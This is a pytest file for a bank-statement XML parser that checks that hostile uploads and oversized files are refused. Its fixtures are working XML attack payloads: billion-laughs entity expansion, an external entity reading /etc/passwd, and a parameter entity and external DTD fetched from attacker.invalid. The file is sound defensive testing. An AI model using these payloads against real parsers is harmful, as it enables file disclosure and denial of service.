"""Hostile uploads are refused quickly with a StatementError and never read outside the file.

Method: hand ``parse_statement`` the classic XML attacks (entity expansion, external entities,
parameter entities, a bare DOCTYPE) wrapped around a real camt document, and files over the size
limit. Each must fail with ``StatementError``; the expansion case also has a generous time bound,
because an expanded billion-laughs document would take far longer and gigabytes of memory.
"""

from __future__ import annotations

import time

import pytest

from zeropools.bankfiles import STATEMENT_BYTES_MAX, StatementError, parse_statement
from zeropools.domain.limits import IMPORT_FILE_BYTES_MAX

from .generate import Entry, camt053

_CAMT = camt053([Entry()]).decode("utf-8").split("\n", 1)[1]  # without the XML declaration

_BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE Document [\n  <!ENTITY lol "lol">\n'
    + "".join(
        f'  <!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">\n'
        for n in range(1, 10)
    )
    + "]>\n"
    + _CAMT.replace("<MsgId>MSG-1</MsgId>", "<MsgId>&lol9;</MsgId>")
)
_EXTERNAL_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + _CAMT.replace("<MsgId>MSG-1</MsgId>", "<MsgId>&xxe;</MsgId>")
)
_PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE Document [<!ENTITY % remote SYSTEM '
    '"http://attacker.invalid/evil.dtd"> %remote;]>\n' + _CAMT
)
_EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n<!DOCTYPE Document SYSTEM "http://attacker.invalid/camt.dtd">\n' + _CAMT
)
_EMPTY_DOCTYPE = '<?xml version="1.0"?>\n<!DOCTYPE Document>\n' + _CAMT


@pytest.mark.parametrize(
    "xml",
    [_BILLION_LAUGHS, _EXTERNAL_ENTITY, _PARAMETER_ENTITY, _EXTERNAL_DTD, _EMPTY_DOCTYPE],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd", "doctype"],
)
def test_xml_with_a_doctype_is_refused_quickly(xml: str) -> None:
    started = time.perf_counter()
    with pytest.raises(StatementError, match="DTD"):
        parse_statement(xml.encode("utf-8"))
    assert time.perf_counter() - started < 5


def test_the_same_document_without_the_attack_is_read() -> None:
    # Guards the tests above: the wrapped camt document itself is fine.
    assert len(parse_statement(_CAMT.encode("utf-8")).credits) == 1


def test_the_size_limit_mirrors_the_import_file_limit() -> None:
    assert STATEMENT_BYTES_MAX == IMPORT_FILE_BYTES_MAX == 20 * 1024 * 1024


def test_a_file_over_the_size_limit_is_refused_before_it_is_read() -> None:
    data = b"<" + b" " * STATEMENT_BYTES_MAX
    with pytest.raises(StatementError, match=f"more than the limit of {STATEMENT_BYTES_MAX} bytes"):
        parse_statement(data)


def test_a_file_of_exactly_the_size_limit_is_read() -> None:
    document = camt053([Entry()])
    padding = STATEMENT_BYTES_MAX - len(document)
    data = document + b" " * padding  # white space after the root element is allowed
    assert len(data) == STATEMENT_BYTES_MAX
    assert len(parse_statement(data).credits) == 1
